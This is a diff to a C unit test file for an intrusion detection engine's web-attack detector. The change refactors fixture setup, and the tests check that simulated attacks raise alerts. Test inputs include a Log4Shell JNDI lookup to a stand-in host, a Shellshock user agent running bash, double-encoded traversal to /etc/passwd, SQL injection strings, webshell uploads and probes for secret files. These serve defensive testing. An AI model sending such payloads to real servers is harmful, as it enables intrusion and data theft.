@@ -13,6 +13,7 @@
 #include <cmocka.h>
 
 #include "decode/decode.h"
+#include "det-test-util.h"
 #include "detect/detect.h"
 #include "detect/explain.h"
 #include "util/netaddr.h"
@@ -23,19 +24,13 @@
 /* 2026-11-26 09:15:00 UTC */
 #define T0 (1795684500ull * S)
 
-#define CAP_MAX 64
-
-struct cap {
-    struct alert a[CAP_MAX];
-    unsigned n;
-};
-
-static void on_alert(void *arg, const struct alert *a)
+/* web.attack only, one record per key: the first raise, then the counts of
+ * its updates added up. */
+static void on_web_alert(void *arg, const struct alert *a)
 {
     struct cap *c = arg;
     if (strcmp(a->category, "web.attack") != 0)
         return;
-    /* Keep one record per key: first raise, then counts added up. */
     for (unsigned i = 0; i < c->n; i++) {
         if (strcmp(c->a[i].key, a->key) == 0) {
             assert_true(a->update);
@@ -48,25 +43,21 @@ static void on_alert(void *arg, const struct alert *a)
     alert_copy(&c->a[c->n++], a);
 }
 
-struct fx {
-    struct detect_config cfg;
-    struct detect *d;
-    struct cap cap;
-    uint64_t flow_id;
-};
+/* The flow id handed out last. */
+static uint64_t flow_id;
 
-static void fx_open(struct fx *f)
+/* The whole stage from f->cfg, alerts to on_web_alert. */
+static void web_start(struct fx *f)
 {
-    memset(f, 0, sizeof(*f));
-    detect_config_defaults(&f->cfg);
-    f->d = detect_new(&f->cfg, NULL, NULL, on_alert, &f->cap);
+    fx_open_cb(f, NULL, NULL, on_web_alert);
+    flow_id = 0;
 }
 
-static void fx_close(struct fx *f)
+/* A fresh fixture, the default configuration. */
+static void fx_begin(struct fx *f)
 {
-    detect_free(f->d);
-    for (unsigned i = 0; i < f->cap.n; i++)
-        alert_release(&f->cap.a[i]);
+    fx_init(f);
+    web_start(f);
 }
 
 /* One transaction client -> server as proto-http.c reports it. */
@@ -76,7 +67,7 @@ static void fx_http(struct fx *f, uint64_t ts, const char *client, const char *s
 {
     struct flow fl;
     memset(&fl, 0, sizeof(fl));
-    fl.id = ++f->flow_id;
+    fl.id = ++flow_id;
     fl.proto = 6;
     assert_int_equal(ip_addr_parse(client, &fl.src), 0);
     assert_int_equal(ip_addr_parse(server, &fl.dst), 0);
@@ -111,18 +102,6 @@ static const struct alert *find(struct fx *f, const char *variant)
             return &f->cap.a[i];
     }
     return NULL;
-}
-
-static const char *fact_str(const struct alert *a, const char *key)
-{
-    json_t *v = json_object_get(a->facts, key);
-    return json_is_string(v) ? json_string_value(v) : NULL;
-}
-
-static long long fact_int(const struct alert *a, const char *key)
-{
-    json_t *v = json_object_get(a->facts, key);
-    return json_is_integer(v) ? (long long)json_integer_value(v) : -1;
 }
 
 /* Every placeholder outside an optional group of the alert's texts is a
@@ -183,7 +162,7 @@ static void test_scan_low_and_leak(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     static const char *const probes[] = {"/.git/config", "/phpmyadmin/", "/cgi-bin/x.cgi",
                                          "/wp-config.php.bak", "/server-status"};
     uint64_t t = T0;
@@ -213,19 +192,19 @@ static void test_strong_single(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     fx_http(&f, T0, "198.51.100.3", SRV, "GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D",
             200, 900, "Mozilla/5.0", NULL);
     assert_non_null(find(&f, "scan"));
     fx_close(&f);
     /* Shellshock in the user agent. */
-    fx_open(&f);
+    fx_begin(&f);
     fx_http(&f, T0, "198.51.100.3", SRV, "GET", "/cgi-bin/status", 404, 0,
             "() { :; }; /bin/bash -c 'id'", NULL);
     assert_non_null(find(&f, "scan"));
     fx_close(&f);
     /* Double-encoded traversal to /etc/passwd. */
-    fx_open(&f);
+    fx_begin(&f);
     fx_http(&f, T0, "198.51.100.3", SRV, "GET", "/img/%252e%252e/%252e%252e/etc/passwd", 400, 0,
             NULL, NULL);
     assert_non_null(find(&f, "scan"));
@@ -237,7 +216,7 @@ static void test_catchall_site(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     static const char *const probes[] = {"/.env", "/.git/config", "/phpmyadmin/", "/backup.sql"};
     uint64_t t = T0;
     for (size_t i = 0; i < ARRAY_SIZE(probes); i++)
@@ -254,7 +233,7 @@ static void test_exposed_needs_scan(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     uint64_t t = T0;
     for (int i = 0; i < 30; i++)
         fx_http(&f, t += S, "192.168.60.21", SRV, "GET", i % 2 ? "/phpmyadmin/index.php"
@@ -277,7 +256,7 @@ static void test_many_404(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     char path[64];
     uint64_t t = T0;
     /* A crawler: 300 pages, 15 stale links. */
@@ -302,7 +281,7 @@ static void test_login(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     uint64_t t = T0;
     for (int i = 0; i < 19; i++)
         fx_http(&f, t += S, "198.51.100.99", SRV, "POST", "/wp-login.php", 200, 4000, "x", NULL);
@@ -334,7 +313,7 @@ static void test_login_redirects(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     uint64_t t = T0;
     for (int i = 0; i < 25; i++)
         fx_http(&f, t += S, "198.51.100.5", SRV, "POST", "/admin/login_check", 302, 0, "x", NULL);
@@ -352,7 +331,7 @@ static void test_xmlrpc_and_staff(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     uint64_t t = T0;
     /* Jetpack-like: 30 xmlrpc posts a day, under the xmlrpc bar. */
     for (int i = 0; i < 30; i++)
@@ -377,7 +356,7 @@ static void test_card(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     uint64_t t = T0;
     /* A customer who browses and retries a declined card three times. */
     for (int i = 0; i < 20; i++)
@@ -406,7 +385,7 @@ static void test_card_slow(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     uint64_t t = T0;
     char ip[32];
     /* 40 addresses, one or two direct payment posts each, over 10 hours. */
@@ -430,7 +409,7 @@ static void test_webshell(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     uint64_t t = T0;
     fx_http(&f, t += S, "203.0.113.8", SRV, "POST", "/wp-content/uploads/2026/11/x.php", 200, 40,
             "x", NULL);
@@ -440,12 +419,12 @@ static void test_webshell(void **state)
     check_all(&f);
     fx_close(&f);
     /* PUT of a script accepted. */
-    fx_open(&f);
+    fx_begin(&f);
     fx_http(&f, t, "203.0.113.8", SRV, "PUT", "/up.jsp", 201, 0, "x", NULL);
     assert_non_null(find(&f, "webshell"));
     fx_close(&f);
     /* Pictures in the upload folder, a script that is not there: quiet. */
-    fx_open(&f);
+    fx_begin(&f);
     fx_http(&f, t, "198.51.100.2", SRV, "GET", "/wp-content/uploads/2026/11/a.jpg", 200, 40000,
             "x", NULL);
     fx_http(&f, t, "198.51.100.2", SRV, "POST", "/uploads/x.php", 404, 100, "x", NULL);
@@ -458,7 +437,7 @@ static void test_scope_and_days(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     for (int i = 0; i < 5; i++)
         fx_http(&f, T0 + (uint64_t)i * S, "192.168.60.21", "93.184.215.14", "GET",
                 "/?q=union select", 200, 100, "x", NULL);
@@ -484,15 +463,14 @@ static void test_params(void **state)
     (void)state;
     struct fx f;
     char err[128];
-    memset(&f, 0, sizeof(f));
-    detect_config_defaults(&f.cfg);
+    fx_init(&f);
     assert_int_equal(detect_config_set_param(&f.cfg, "web.login_min_attempts", "3", err,
                                              sizeof(err)),
                      0);
     assert_int_equal(detect_config_set_param(&f.cfg, "web.login_min_attempts", "0", err,
                                              sizeof(err)),
                      -1);
-    f.d = detect_new(&f.cfg, NULL, NULL, on_alert, &f.cap);
+    web_start(&f);
     for (int i = 0; i < 3; i++)
         fx_http(&f, T0 + (uint64_t)i * S, "198.51.100.99", SRV, "POST", "/user/login", 200, 10,
                 "x", NULL);
@@ -505,7 +483,7 @@ static void test_junk(void **state)
 {
     (void)state;
     struct fx f;
-    fx_open(&f);
+    fx_begin(&f);
     char big[3000];
     memset(big, '%', sizeof(big) - 1);
     big[sizeof(big) - 1] = '\0';
